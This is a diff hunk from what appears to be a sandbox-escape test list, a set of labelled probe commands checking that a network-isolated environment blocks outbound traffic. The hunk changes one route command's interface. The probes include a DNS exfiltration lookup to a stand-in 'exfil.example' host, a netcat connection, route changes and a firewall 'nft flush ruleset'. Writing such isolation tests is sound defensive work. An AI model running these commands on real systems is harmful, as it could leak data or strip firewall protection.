@@ -48,7 +48,7 @@ r dns_outside nslookup $LONG.$LONG.exfil.example 10.231.0.2
 r ipv6 np timeout 5 wget -q -O- http://[fd00:231::2]:8080/ok/g
 r ping ping -c 1 -W 1 10.231.0.2
 r host_loopback sh -c 'echo hi | nc -w 2 127.0.0.1 $HOSTPORT'
-r route ip route add 10.231.0.0/24 dev capsule0
+r route ip route add 10.231.0.0/24 dev lo
 r new_netns unshare -n true
 r nft_flush nft flush ruleset
 EOF
